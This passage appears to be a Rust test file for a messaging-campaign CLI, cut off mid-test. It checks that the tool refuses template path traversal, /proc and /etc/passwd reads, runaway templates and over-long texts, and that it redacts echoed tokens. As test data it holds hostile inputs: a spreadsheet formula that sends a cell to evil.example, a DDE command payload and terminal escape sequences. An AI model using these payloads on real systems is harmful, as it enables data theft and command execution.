//! Input that lies, through the real binary: templates that reach outside their folder or run
//! away, texts over a channel's limits, secrets echoed back by the API, spreadsheet formulas in
//! names, errors and replies, and an API that cannot be reached. And a hostile machine: a loose
//! umask, symlinks planted at output files, writes that fail midway, a full stdout, and a ledger
//! path that is a pipe, a folder or a device.

use std::os::unix::process::CommandExt;
use std::process::Command;
use std::sync::Arc;

use crate::common::*;

/// A campaign of one text item from `template` (a file in the templates folder).
fn template_campaign(url: &str, template: &str) -> String {
    campaign_yaml(
        url,
        &format!("  - type: text\n    template: {template}\n"),
        "",
    )
}

const CONTACTS: &str = "customer_id,first_name,phone\nC1,Ana,5511999990001\nC2,Bo,5511999990002\n";

/// `cosmocast check campaign.yaml`: its exit code and stderr.
fn check(f: &Fixture) -> (Option<i32>, String) {
    let out = f.cmd().args(["check", "campaign.yaml"]).output().unwrap();
    (out.status.code(), stderr_of(&out))
}

#[test]
fn templates_in_the_folder_extend_include_and_import_one_another() {
    let server = TestServer::sent_ok();
    let f = Fixture::new();
    f.write("contacts.csv", CONTACTS)
        .write("campaign.yaml", &template_campaign(&server.url(), "main.txt.j2"))
        .write(
            "templates/main.txt.j2",
            "{% extends \"layout.j2\" %}{% block body %}{% import \"macros.j2\" as m %}{{ m.greet(first_name) }}{% endblock %}",
        )
        .write(
            "templates/layout.j2",
            // A list: the first that exists is used, so one missing is no problem.
            "Olá! {% block body %}{% endblock %} {% include [\"parts/nope.j2\", \"parts/footer.j2\"] %}",
        )
        .write(
            "templates/macros.j2",
            "{% macro greet(name) %}Hi {{ name | upper }}{% endmacro %}",
        )
        .write("templates/parts/footer.j2", "— a loja");
    let out = f.run();
    assert_eq!(out.status.code(), Some(0), "{}", stderr_of(&out));
    let mut texts: Vec<String> = server
        .requests()
        .iter()
        .map(|r| {
            r.body["message"][0]["data"]["text"]
                .as_str()
                .unwrap()
                .to_string()
        })
        .collect();
    texts.sort();
    assert_eq!(texts, ["Olá! Hi ANA — a loja", "Olá! Hi BO — a loja"]);
    // A list none of whose files exists is a problem.
    f.write(
        "templates/layout.j2",
        "Olá! {% block body %}{% endblock %} {% include [\"parts/nope.j2\", \"parts/none.j2\"] %}",
    );
    let (code, said) = check(&f);
    assert_eq!(code, Some(1), "{said}");
    assert!(
        said.contains(
            "templates/layout.j2:1: `{% include %}`: cannot read template templates/parts/nope.j2"
        ),
        "{said}"
    );
}

#[test]
fn a_template_outside_the_folder_is_refused_naming_the_file_and_never_read() {
    const SECRET: &str = "TOP-SECRET-CONTENT";
    let server = TestServer::sent_ok();
    // (template named by the campaign, files to write, symlinks to make, what check must say)
    type Case<'a> = (
        &'a str,
        &'a [(&'a str, &'a str)],
        &'a [(&'a str, &'a str)],
        &'a str,
    );
    let cases: &[Case] = &[
        (
            "link.j2",
            &[],
            &[("templates/link.j2", "outside/secret.txt")],
            "campaign.yaml:17: template \"link.j2\" is a symbolic link leading out of the templates folder — copy the file into `templates/` instead of linking to it",
        ),
        (
            "main.j2",
            &[(
                "templates/main.j2",
                "Hi\n{% include \"../outside/secret.txt\" %}",
            )],
            &[],
            "templates/main.j2:2: `{% include %}`: template \"../outside/secret.txt\" leads out of the templates folder with `..` — put the file in `templates/` and name it relative to that folder (e.g. `renewal.txt.j2`)",
        ),
        (
            "main.j2",
            &[("templates/main.j2", "{% from 'parts/link.j2' import x %}Hi")],
            &[("templates/parts/link.j2", "outside/secret.txt")],
            "templates/main.j2:1: `{% from %}`: template \"parts/link.j2\" is a symbolic link leading out of the templates folder",
        ),
        (
            "main.j2",
            &[("templates/main.j2", "{% extends '/etc/passwd' %}")],
            &[],
            "templates/main.j2:1: `{% extends %}`: template \"/etc/passwd\" is an absolute path; templates are read from the templates folder only",
        ),
        (
            // A name computed from a cell is held to the same rule when the row is rendered.
            "main.j2",
            &[
                (
                    "contacts.csv",
                    "customer_id,first_name,phone,part\nC1,Ana,5511999990001,../outside/secret.txt\n",
                ),
                ("templates/main.j2", "{% include part %}"),
            ],
            &[],
            "contacts.csv:2: row 1: template error: template \"../outside/secret.txt\" leads out of the templates folder with `..` (templates/main.j2:1) — put the file in `templates/`",
        ),
    ];
    for (template, files, links, expected) in cases {
        let f = Fixture::new();
        f.write("contacts.csv", CONTACTS)
            .write("campaign.yaml", &template_campaign(&server.url(), template))
            .write("outside/secret.txt", SECRET);
        for (name, text) in *files {
            f.write(name, text);
        }
        for (link, target) in *links {
            std::fs::create_dir_all(f.path(link).parent().unwrap()).unwrap();
            std::os::unix::fs::symlink(f.path(target), f.path(link)).unwrap();
        }
        let (code, err) = check(&f);
        assert_eq!(code, Some(1), "{template}: {err}");
        assert!(err.contains(expected), "expected {expected:?} in:\n{err}");
        let run = f.run();
        assert_eq!(run.status.code(), Some(1), "{}", stderr_of(&run));
        for text in [err, stderr_of(&run), stdout_of(&run)] {
            assert!(!text.contains(SECRET), "{text}");
        }
    }
    assert_eq!(server.count(), 0);
}

#[test]
fn templates_contacts_and_exclusions_under_proc_sys_or_dev_are_refused_and_never_read() {
    // In the environment of every command: it must appear in no output.
    const MARKER: &str = "ENVIRON-MARKER-5c2e";
    let server = TestServer::sent_ok();
    let contacts =
        |to: &'static str| move |yaml: String| yaml.replace("  file: contacts.csv\n", to);
    // (what, how the campaign is written, make `templates` a link to /proc/self, what check says)
    type Case = (
        &'static str,
        Box<dyn Fn(String) -> String>,
        bool,
        &'static [&'static str],
    );
    let cases: Vec<Case> = vec![
        (
            "templates: /proc/self",
            Box::new(|yaml| format!("{yaml}templates: /proc/self\n")),
            false,
            &[
                "campaign.yaml:18: the templates folder /proc/self is in /proc, which holds the system's own files, not campaign data — name a file or folder of your own",
            ],
        ),
        (
            "templates -> /proc/self",
            Box::new(|yaml| yaml),
            true,
            &[
                "campaign.yaml:17: the templates folder ",
                "templates leads to /proc/",
                ", in /proc",
            ],
        ),
        (
            "contacts.file: /dev/stdin",
            Box::new(contacts("  file: /dev/stdin\n")),
            false,
            &["campaign.yaml:10: the contacts file /dev/stdin is in /dev"],
        ),
        (
            "an exclusion list in /proc",
            Box::new(contacts(
                "  file: contacts.csv\n  exclude:\n    - contacts.csv\n    - /proc/self/environ\n",
            )),
            false,
            &["campaign.yaml:13: the exclusion list /proc/self/environ is in /proc"],
        ),
    ];
    for (what, write, link, expected) in &cases {
        let f = Fixture::new();
        f.write("contacts.csv", CONTACTS).write(
            "campaign.yaml",
            &write(template_campaign(&server.url(), "environ")),
        );
        if *link {
            std::fs::remove_dir(f.path("templates")).unwrap();
            std::os::unix::fs::symlink("/proc/self", f.path("templates")).unwrap();
        }
        let (code, err) = {
            let out = f
                .cmd()
                .env("MARKER", MARKER)
                .args(["check", "campaign.yaml"])
                .write_stdin(CONTACTS)
                .output()
                .unwrap();
            (out.status.code(), stderr_of(&out))
        };
        assert_eq!(code, Some(1), "{what}: {err}");
        for e in *expected {
            assert!(err.contains(e), "{what}: expected {e:?} in:\n{err}");
        }
        let preview = f
            .cmd()
            .env("MARKER", MARKER)
            .args(["preview", "campaign.yaml"])
            .write_stdin(CONTACTS)
            .output()
            .unwrap();
        assert_eq!(
            preview.status.code(),
            Some(1),
            "{what}: {}",
            stderr_of(&preview)
        );
        let run = f
            .run_cmd()
            .env("MARKER", MARKER)
            .write_stdin(CONTACTS)
            .output()
            .unwrap();
        assert_eq!(run.status.code(), Some(1), "{what}: {}", stderr_of(&run));
        for out in [&preview, &run] {
            for text in [stdout_of(out), stderr_of(out)] {
                assert!(!text.contains(MARKER), "{what}: {text}");
            }
        }
        assert!(!err.contains(MARKER), "{what}: {err}");
    }
    assert_eq!(server.count(), 0);
}

/// Runs `cosmocast check` with the address space capped at `bytes`: a template that grew its
/// text without bound would fail to allocate and abort instead of exiting 1.
fn check_within_memory(f: &Fixture, bytes: u64) -> std::process::Output {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_cosmocast"));
    cmd.current_dir(f.dir.path())
        .env("COSMOCAST_LEDGER", f.ledger())
        .env("COSMOBOTS_TOKEN", TOKEN)
        .env("COSMOBOTS_CHANNEL_ID", CHANNEL)
        .args(["check", "campaign.yaml"]);
    let limit = libc::rlimit {
        rlim_cur: bytes,
        rlim_max: bytes,
    };
    // SAFETY: setrlimit is async-signal-safe, and nothing else runs between fork and exec.
    unsafe {
        cmd.pre_exec(move || match libc::setrlimit(libc::RLIMIT_AS, &limit) {
            0 => Ok(()),
            _ => Err(std::io::Error::last_os_error()),
        });
    }
    // Files, not pipes: nothing blocks on a full pipe while the test waits.
    let file = |name: &str| std::fs::File::create(f.path(name)).unwrap();
    let mut child = cmd
        .stdout(file("check.out"))
        .stderr(file("check.err"))
        .spawn()
        .unwrap();
    // A template that loops without a budget never ends: the test fails instead of waiting.
    let started = std::time::Instant::now();
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if started.elapsed() > std::time::Duration::from_secs(60) {
            let _ = child.kill();
            let _ = child.wait();
            panic!("check did not finish within a minute");
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    };
    std::process::Output {
        status,
        stdout: std::fs::read(f.path("check.out")).unwrap(),
        stderr: std::fs::read(f.path("check.err")).unwrap(),
    }
}

#[test]
fn a_runaway_template_stops_check_naming_the_template_and_row_in_bounded_memory() {
    let server = TestServer::sent_ok();
    let mut csv = String::from("customer_id,first_name,phone\n");
    for i in 1..=5000 {
        csv.push_str(&format!("C{i},Name{i},55119{i:08}\n"));
    }
    for (name, template) in [
        (
            "nested loops",
            "{% for i in range(100000) %}{% for j in range(100000) %}.{% endfor %}{% endfor %}",
        ),
        (
            "text doubling in a loop",
            "{% set s = first_name %}{% for i in range(100000) %}{% set s = s ~ s %}{% endfor %}{{ s }}",
        ),
    ] {
        let f = Fixture::new();
        f.write("contacts.csv", &csv)
            .write(
                "campaign.yaml",
                &template_campaign(&server.url(), "runaway.txt.j2"),
            )
            .write("templates/runaway.txt.j2", &format!("Hello\n{template}\n"));
        let out = check_within_memory(&f, 512 << 20);
        let err = stderr_of(&out);
        assert_eq!(out.status.code(), Some(1), "{name}: {err}");
        assert!(
            err.starts_with("contacts.csv:2: row 1: template templates/runaway.txt.j2:2 ran out of its rendering budget (200000 steps)"),
            "{name}: {err}"
        );
        assert!(
            err.contains("contacts.csv:3: row 2: template templates/runaway.txt.j2 was not rendered: it ran out of its rendering budget at row 1"),
            "{name}: {err}"
        );
        assert!(err.contains("(5000 problems in all"), "{name}: {err}");
        // --skip-invalid cannot skip a template's fault: the run refuses, nothing is recorded.
        let run = f.run_cmd().arg("--skip-invalid").output().unwrap();
        let err = stderr_of(&run);
        assert_eq!(run.status.code(), Some(1), "{name}: {err}");
        assert!(
            err.contains("a template ran out of its rendering budget"),
            "{name}: {err}"
        );
        assert!(
            !f.ledger().exists(),
            "{name}: the refused run created the ledger"
        );
    }
    assert_eq!(server.count(), 0);
}

#[test]
fn a_text_over_64_kib_is_refused_naming_the_template_row_and_limit() {
    let server = TestServer::sent_ok();
    let f = Fixture::new();
    f.write("contacts.csv", CONTACTS).write(
        "campaign.yaml",
        &campaign_yaml(
            &server.url(),
            "  - type: text\n    text: \"{{ first_name * 40000 }}\"\n",
            "",
        ),
    );
    let (code, err) = check(&f);
    assert_eq!(code, Some(1), "{err}");
    // Ana is 120,000 bytes, over the bound; Bo's 80,000 bytes too.
    assert!(
        err.contains("contacts.csv:2: row 1: template `messages[0].text` (campaign.yaml:17) rendered 120000 bytes, over the 64 KiB one text may hold"),
        "{err}"
    );
    assert!(err.contains("contacts.csv:3: row 2: template `messages[0].text` (campaign.yaml:17) rendered 80000 bytes"), "{err}");
    assert_eq!(server.count(), 0);
}

#[test]
fn check_holds_texts_and_whatsapp_buttons_to_the_channel_limits() {
    let server = TestServer::sent_ok();
    let f = Fixture::new();
    // Row 1 stays within every limit, counted in characters (ç is two bytes); row 2 is over.
    f.write(
        "contacts.csv",
        &format!(
            "customer_id,first_name,phone,body,label\nC1,Ana,5511999990001,{},Sim\nC2,Bo,5511999990002,{},Quero renovar o plano\n",
            "ç".repeat(4096),
            "ç".repeat(4096)
        ),
    )
    .write(
        "campaign.yaml",
        &campaign_yaml(
            &server.url(),
            "  - type: text\n    text: \"{{ body }}{% if row_number == 2 %}!{% endif %}\"\n  - type: buttons\n    text: \"{{ body[:1024] }}{% if row_number == 2 %}!{% endif %}\"\n    buttons:\n      - { title: \"{{ label }}\", type: payload, value: \"yes\" }\n      - { title: \"No\", type: payload, value: \"{{ 'v' * (255 + row_number) }}\" }\n      - { title: \"Later\", type: payload, value: \"later\" }\n",
            "",
        ),
    );
    let (code, err) = check(&f);
    assert_eq!(code, Some(1), "{err}");
    let row2: Vec<&str> = err.lines().filter(|l| l.contains("row 2:")).collect();
    assert_eq!(
        row2,
        [
            "contacts.csv:3: row 2: `message[0].data.text` is 4097 characters long; on any channel a text may hold at most 4096 — fix the cell or the template that fills it",
            "contacts.csv:3: row 2: `message[1].data.text` is 1025 characters long; on WhatsApp a buttons message's text may hold at most 1024 — fix the cell or the template that fills it",
            "contacts.csv:3: row 2: `message[1].data.buttons[0].title` is 21 characters long; on WhatsApp a button title may hold at most 20 — fix the cell or the template that fills it",
            "contacts.csv:3: row 2: `message[1].data.buttons[1].value` is 257 characters long; on WhatsApp a button value may hold at most 256 — fix the cell or the template that fills it",
        ],
        "{err}"
    );
    assert!(!err.contains("row 1:"), "{err}");

    // A fourth button is one too many on WhatsApp, and fine on another channel. The campaign
    // file fixes the count: one problem at its line, not one per row.
    let four = "  - type: buttons\n    text: Renew?\n    buttons:\n      - { title: A, type: payload, value: a }\n      - { title: B, type: payload, value: b }\n      - { title: C, type: payload, value: c }\n      - { title: D, type: payload, value: d }\n";
    f.write("contacts.csv", CONTACTS)
        .write("campaign.yaml", &campaign_yaml(&server.url(), four, ""));
    let (code, err) = check(&f);
    assert_eq!(code, Some(1), "{err}");
    assert!(
        err.contains("campaign.yaml:18: `messages[0].buttons` has 4 buttons; on WhatsApp a buttons message may hold at most 3"),
        "{err}"
    );
    assert!(!err.contains("row 1:"), "{err}");
    f.write(
        "campaign.yaml",
        &campaign_yaml(&server.url(), four, "").replace("channel: whatsapp", "channel: rcs"),
    );
    let (code, err) = check(&f);
    assert_eq!(code, Some(0), "{err}");
    assert_eq!(server.count(), 0);
}

#[test]
fn look_alikes_are_named_in_where_and_in_an_included_template() {
    let server = TestServer::sent_ok();
    let f = Fixture::new();
    f.write(
        "contacts.csv",
        "customer_id,first_name,phone,opt_in\nC1,Ana,5511999990001,yes\n",
    )
    .write(
        "campaign.yaml",
        &template_campaign(&server.url(), "main.j2").replace(
            "  file: contacts.csv\n",
            "  file: contacts.csv\n  where: \"opt_in == ‘yes’\"\n",
        ),
    )
    .write(
        "templates/main.j2",
        "Olá “{{ first_name }}”! {% include 'footer.j2' %}",
    )
    .write("templates/footer.j2", "Até {{ first_name\u{00A0}}}");
    let (code, err) = check(&f);
    assert_eq!(code, Some(1), "{err}");
    assert!(
        err.starts_with("campaign.yaml:11:21: U+2018 LEFT SINGLE QUOTATION MARK ‘ looks like `'` but is not read as one"),
        "{err}"
    );
    assert!(
        err.contains("campaign.yaml:11:25: U+2019 RIGHT SINGLE QUOTATION MARK ’"),
        "{err}"
    );
    // Once the campaign file is fixed, the templates: prose quotes are fine, a no-break space
    // in a tag of the included template is not.
    f.write(
        "campaign.yaml",
        &template_campaign(&server.url(), "main.j2").replace(
            "  file: contacts.csv\n",
            "  file: contacts.csv\n  where: \"opt_in == 'yes'\"\n",
        ),
    );
    let (code, err) = check(&f);
    assert_eq!(code, Some(1), "{err}");
    assert!(
        err.starts_with("templates/footer.j2:1:18: U+00A0 NO-BREAK SPACE looks like a plain space but is not read as one"),
        "{err}"
    );
    assert!(!err.contains("main.j2"), "{err}");
    assert_eq!(server.count(), 0);
}

#[test]
fn a_url_that_does_not_parse_is_shown_without_its_password() {
    let f = Fixture::new();
    f.write("contacts.csv", CONTACTS).write(
        "campaign.yaml",
        &campaign_yaml(
            "\"https://marketing:hunter2@api.cosmobots.io:99999/messages/v1/send\"",
            "  - type: text\n    text: Hi\n",
            "",
        ),
    );
    let (code, err) = check(&f);
    assert_eq!(code, Some(1), "{err}");
    assert!(
        err.contains("campaign.yaml:4: \"https://***@api.cosmobots.io:99999/messages/v1/send\" is not an http(s) URL"),
        "{err}"
    );
    assert!(
        !err.contains("hunter2") && !err.contains("marketing"),
        "{err}"
    );
}

/// Every text a user or a tool may read after a run: the run's own output, `status` (plain and
/// JSON), `export` (CSV and JSON lines), the HTML report, and the ledger's files byte for byte.
/// The commands see `token` as the campaign's token.
fn everything_readable(
    f: &Fixture,
    run: &std::process::Output,
    token: &str,
) -> Vec<(String, Vec<u8>)> {
    let mut out = vec![
        ("run stdout".to_string(), run.stdout.clone()),
        ("run stderr".to_string(), run.stderr.clone()),
    ];
    for args in [
        &["status", "campaign.yaml"][..],
        &["status", "campaign.yaml", "--json"],
        &["export", "campaign.yaml"],
        &["export", "campaign.yaml", "--format", "jsonl"],
        &["report", "campaign.yaml", "-o", "report.html"],
    ] {
        let o = f
            .cmd()
            .env("COSMOBOTS_TOKEN", token)
            .args(args)
            .output()
            .unwrap();
        assert_eq!(o.status.code(), Some(0), "{args:?}: {}", stderr_of(&o));
        out.push((format!("{args:?} stdout"), o.stdout));
        out.push((format!("{args:?} stderr"), o.stderr));
    }
    out.push((
        "report.html".into(),
        std::fs::read(f.path("report.html")).unwrap(),
    ));
    for entry in std::fs::read_dir(f.dir.path()).unwrap() {
        let path = entry.unwrap().path();
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        if name.starts_with("workspace.sqlite") {
            out.push((name, std::fs::read(&path).unwrap()));
        }
    }
    out
}

fn holds(bytes: &[u8], needle: &str) -> bool {
    bytes.windows(needle.len()).any(|w| w == needle.as_bytes())
}

#[test]
fn an_api_error_echoing_the_token_and_channel_id_is_stored_and_printed_redacted() {
    let server = TestServer::start(Arc::new(|n, body| {
        if n == 0 {
            return answer_sent(n, body);
        }
        (
            400,
            format!(
                "{{\"error\": \"bad token={TOKEN} for channel_id={CHANNEL}\", \"headers\": {{\"token\": \"{TOKEN}\"}}}}"
            ),
        )
    }));
    let f = Fixture::new();
    f.write("contacts.csv", CONTACTS).write(
        "campaign.yaml",
        &campaign_yaml(&server.url(), "  - type: text\n    text: Hi\n", ""),
    );
    let run = f.run();
    assert_eq!(run.status.code(), Some(3), "{}", stderr_of(&run));
    assert_eq!(server.count(), 2);
    let texts = everything_readable(&f, &run, TOKEN);
    assert!(texts.iter().any(|(name, _)| name == "workspace.sqlite"));
    for (name, bytes) in &texts {
        assert!(!holds(bytes, TOKEN), "{name} holds the token");
        assert!(!holds(bytes, CHANNEL), "{name} holds the channel id");
    }
    // The error itself is kept, with the secrets replaced.
    let (_, export) = texts
        .iter()
        .find(|(name, _)| name.contains("jsonl") && name.ends_with("stdout"))
        .unwrap();
    let export = String::from_utf8_lossy(export);
    assert!(
        export.contains("bad token=<redacted> for channel_id=<redacted>"),
        "{export}"
    );
}

/// A contact file that is a link to a credentials file: a cell holding the token is never sent
/// nor shown, and a header holding it is named without it, by `check`, `preview`, a dry run,
/// `export`, and the run itself.
#[test]
fn a_contact_file_holding_the_token_neither_sends_nor_shows_it() {
    let server = TestServer::sent_ok();
    let f = Fixture::new();
    f.write(
        "env.txt",
        &format!("phone;note\n5511999990001;COSMOBOTS_TOKEN={TOKEN}\n5511999990002;oi\n"),
    );
    std::os::unix::fs::symlink(f.path("env.txt"), f.path("contacts.csv")).unwrap();
    let yaml = campaign_yaml(
        &server.url(),
        "  - type: text\n    text: \"{{ note }}\"\n",
        "",
    )
    .replace(
        "  file: contacts.csv\n",
        "  file: contacts.csv\n  delimiter: \";\"\n",
    )
    .replace(
        "  external_id: \"{{ customer_id }}\"\n  first_name: \"{{ first_name }}\"\n",
        "",
    );
    f.write("campaign.yaml", &yaml);
    let mut seen = Vec::new();
    for args in [
        &["check", "campaign.yaml"][..],
        &["preview", "campaign.yaml", "--row", "1", "--row", "2"],
        &["run", "campaign.yaml", "--dry-run"],
        &["export", "campaign.yaml"],
    ] {
        let o = f.cmd().args(args).output().unwrap();
        seen.push((format!("{args:?}"), o.stdout, o.stderr));
    }
    let run = f.run_cmd().arg("--skip-invalid").output().unwrap();
    assert_eq!(run.status.code(), Some(0), "{}", stderr_of(&run));
    seen.push(("run".into(), run.stdout, run.stderr));
    for (what, out, err) in &seen {
        assert!(
            !holds(out, TOKEN) && !holds(err, TOKEN),
            "{what} shows the token"
        );
    }
    assert!(
        String::from_utf8_lossy(&seen[0].2).contains("row 1: column 2 holds a secret"),
        "{}",
        String::from_utf8_lossy(&seen[0].2)
    );
    assert_eq!(server.count(), 1, "row 2 only");
    assert!(
        server
            .requests()
            .iter()
            .all(|r| !r.body.to_string().contains(TOKEN))
    );

    // The token in the header row: named, with the secret left out.
    f.write("env.txt", &format!("{TOKEN};phone\n1;5511999990003\n"));
    let check = f.cmd().args(["check", "campaign.yaml"]).output().unwrap();
    let err = stderr_of(&check);
    assert!(!err.contains(TOKEN) && err.contains("<redacted>"), "{err}");
}

/// The token pasted into the API's URL is refused: a URL is printed and recorded with it.
#[test]
fn a_token_in_the_api_url_is_refused_without_being_shown() {
    let f = Fixture::new();
    f.write("contacts.csv", CONTACTS).write(
        "campaign.yaml",
        &campaign_yaml(
            &format!("http://127.0.0.1:9/{TOKEN}/send"),
            "  - type: text\n    text: Hi\n",
            "",
        ),
    );
    let out = f.cmd().args(["check", "campaign.yaml"]).output().unwrap();
    let err = stderr_of(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(
        err.contains("the URL holds the value of `api.token`") && !err.contains(TOKEN),
        "{err}"
    );
}

/// An API id holding a terminal's control sequences: `export` on a terminal shows them
/// escaped; to a pipe the cell stays as it came (it is data there).
#[test]
fn export_to_a_terminal_shows_control_characters_escaped() {
    let server = TestServer::start(Arc::new(|_, _| {
        (
            200,
            r#"{"status":"sent","contact_id":"\u001b]0;pwned\u0007\u001b[2J","message_ids":["m1"]}"#
                .into(),
        )
    }));
    let f = Fixture::new();
    f.write("contacts.csv", CONTACTS).write(
        "campaign.yaml",
        &campaign_yaml(&server.url(), "  - type: text\n    text: Hi\n", ""),
    );
    assert_eq!(f.run().status.code(), Some(0));
    let bin = assert_cmd::cargo::cargo_bin("cosmocast");
    let shell = format!("{} export campaign.yaml", bin.display());
    let tty = std::process::Command::new("script")
        .args(["-qec", &shell, "/dev/null"])
        .current_dir(f.dir.path())
        .env("COSMOCAST_LEDGER", f.ledger_env())
        .env("XDG_DATA_HOME", f.path("xdg"))
        .output()
        .expect("`script` (util-linux) runs a command on a terminal");
    let shown = String::from_utf8_lossy(&tty.stdout);
    assert!(shown.contains("\\x1b]0;pwned\\x07\\x1b[2J"), "{shown}");
    assert!(!shown.contains('\u{1b}'), "{shown:?}");
    let piped = f.cmd().args(["export", "campaign.yaml"]).output().unwrap();
    assert!(
        stdout_of(&piped).contains("\u{1b}]0;pwned"),
        "{}",
        stdout_of(&piped)
    );
}

/// A token with a `/`, which PHP's json_encode writes as `\/`, and a `+`, which URL-encoding
/// changes.
const SLASHED: &str = "tOk/Harn3ss+Q9zK7wLm2Xv";

/// How the API echoes the token to each contact (by external id): JSON-escaped, in base64 behind
/// a header name, URL-encoded, upper-cased, and JSON-escaped inside a `status: error` answer.
fn echo(id: &str) -> (u16, String) {
    use base64::Engine as _;
    let escaped = SLASHED.replace('/', "\\/");
    match id {
        "C1" => (400, format!("{{\"error\":\"bad token {escaped}\"}}")),
        "C2" => {
            let header =
                base64::engine::general_purpose::STANDARD.encode(format!("token: {SLASHED}"));
            (
                400,
                format!("{{\"error\":\"bad header\",\"raw\":\"{header}\"}}"),
            )
        }
        "C3" => (
            400,
            format!(
                "{{\"error\":\"bad url\",\"url\":\"https://x.example/?t={}\"}}",
                url_encoded(SLASHED)
            ),
        ),
        "C4" => (
            400,
            format!("{{\"error\":\"BAD TOKEN {}\"}}", SLASHED.to_uppercase()),
        ),
        _ => (
            200,
            format!("{{\"status\":\"error\",\"message\":\"token {escaped} expired\"}}"),
        ),
    }
}

fn url_encoded(s: &str) -> String {
    s.bytes()
        .map(|b| match b {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' => {
                (b as char).to_string()
            }
            _ => format!("%{b:02X}"),
        })
        .collect()
}

#[test]
fn a_token_echoed_escaped_encoded_or_upper_cased_is_stored_and_printed_redacted() {
    use base64::Engine as _;
    let server = TestServer::start(Arc::new(|_, body| {
        echo(body["contact"]["external_id"].as_str().unwrap_or(""))
    }));
    let f = Fixture::new();
    f.write(
        "contacts.csv",
        "customer_id,first_name,phone\nC1,Ana,5511999990001\nC2,Bo,5511999990002\nC3,Cy,5511999990003\nC4,Di,5511999990004\nC5,Ed,5511999990005\n",
    )
    .write(
        "campaign.yaml",
        &campaign_yaml(&server.url(), "  - type: text\n    text: Hi\n", ""),
    );
    let run = f
        .run_cmd()
        .env("COSMOBOTS_TOKEN", SLASHED)
        .output()
        .unwrap();
    assert_eq!(run.status.code(), Some(3), "{}", stderr_of(&run));
    assert_eq!(server.count(), 5);
    assert!(
        server
            .requests()
            .iter()
            .all(|r| r.headers["token"] == SLASHED)
    );
    // Each echo as the API wrote it, and the base64 of the token alone at each alignment.
    let mut spellings: Vec<String> = (1..=5).map(|i| echo(&format!("C{i}")).1).collect();
    spellings.push(SLASHED.replace('/', "\\/"));
    spellings.push(url_encoded(SLASHED));
    spellings.push(url_encoded(SLASHED).to_lowercase());
    for prefix in ["", "a", "ab"] {
        let encoded =
            base64::engine::general_purpose::STANDARD.encode(format!("{prefix}{SLASHED}"));
        // The characters made of the token's bits alone.
        spellings.push(encoded[3..SLASHED.len() * 4 / 3].to_string());
    }
    let texts = everything_readable(&f, &run, SLASHED);
    assert!(texts.iter().any(|(name, _)| name == "report.html"));
    for (name, bytes) in &texts {
        let text = String::from_utf8_lossy(bytes).to_lowercase();
        assert!(
            !text.contains(&SLASHED.to_lowercase()),
            "{name} holds the token"
        );
        for s in &spellings {
            assert!(!holds(bytes, s), "{name} holds {s:?}");
        }
    }
    // The errors themselves are kept, with the token replaced.
    let errors = f.sql("SELECT error FROM contacts ORDER BY row_number");
    let errors: Vec<&str> = errors.iter().map(|r| r[0].as_str()).collect();
    assert_eq!(errors.len(), 5);
    assert!(errors[0].contains("bad token <redacted>"), "{errors:?}");
    assert!(errors[2].contains("?t=<redacted>"), "{errors:?}");
    assert!(errors[3].contains("BAD TOKEN <redacted>"), "{errors:?}");
    assert!(errors[4].contains("token <redacted> expired"), "{errors:?}");
}

/// `cosmocast listen` on a free port over the fixture's ledger; killed on drop.
struct Listener {
    child: std::process::Child,
    url: String,
}

impl Listener {
    fn start(f: &Fixture, secret: &str) -> Listener {
        use std::io::BufRead;
        let ledger = f.ledger();
        let mut child = Command::new(env!("CARGO_BIN_EXE_cosmocast"))
            .args(["listen", "--addr", "127.0.0.1:0", "--ledger"])
            .arg(&ledger)
            .current_dir(f.dir.path())
            .env("COSMOCAST_WEBHOOK_SECRET", secret)
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let mut lines = std::io::BufReader::new(child.stderr.take().unwrap()).lines();
        let first = lines.next().unwrap().unwrap();
        let url = first
            .split_whitespace()
            .find(|w| w.starts_with("http://"))
            .unwrap_or_else(|| panic!("no URL in {first:?}"))
            .trim_end_matches(',')
            .to_string();
        // Keep reading, so that the listener never blocks on a full pipe.
        std::thread::spawn(move || lines.map_while(Result::ok).for_each(drop));
        Listener { child, url }
    }
}

impl Drop for Listener {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Names, an API error and replies that a spreadsheet would run as formulas.
const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"x\")";
const CMD: &str = "+cmd|' /C calc'!A0";
const SUM: &str = "@SUM(1+1)";
const MINUS: &str = "-2+3";
const API_ERROR: &str = "=1+1 the window is closed";

#[test]
fn formulas_from_names_errors_and_replies_are_neutralised_in_csv_and_kept_in_json_lines() {
    let server = TestServer::start(Arc::new(|n, body| {
        if body["contact"]["first_name"] == MINUS {
            let error = serde_json::json!({"status": "error", "message": API_ERROR});
            return (200, error.to_string());
        }
        answer_sent(n, body)
    }));
    let f = Fixture::new();
    let mut csv = String::from("customer_id,first_name,phone\n");
    for (i, name) in [HYPERLINK, CMD, SUM, MINUS, "Ana"].iter().enumerate() {
        let quoted = name.replace('"', "\"\"");
        csv.push_str(&format!("C{i},\"{quoted}\",551199999000{i}\n"));
    }
    f.write("contacts.csv", &csv).write(
        "campaign.yaml",
        &campaign_yaml(&server.url(), "  - type: text\n    text: Hi\n", "").replace(
            "  file: contacts.csv\n",
            "  file: contacts.csv\n  key: \"{{ first_name }}\"\n",
        ),
    );
    let run = f.run();
    assert_eq!(run.status.code(), Some(3), "{}", stderr_of(&run));

    // Replies from Ana (a formula) and from the HYPERLINK contact (a negative sum).
    let secret = "a-webhook-secret-for-the-formula-test";
    let listener = Listener::start(&f, secret);
    let webhook = format!(
        "{}/webhook/{secret}",
        listener.url.split("/webhook").next().unwrap()
    );
    for (phone, text) in [("5511999990004", HYPERLINK), ("5511999990000", MINUS)] {
        let body = serde_json::json!({
            "contact": {"mobile_phone": phone},
            "message": [{"type": "text", "data": {"text": text}}],
        });
        assert_eq!(post_status(&webhook, &body.to_string()), 200);
    }
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while f.sql("SELECT COUNT(*) FROM replies")[0][0] != "2" {
        assert!(
            std::time::Instant::now() < deadline,
            "the replies were not stored"
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
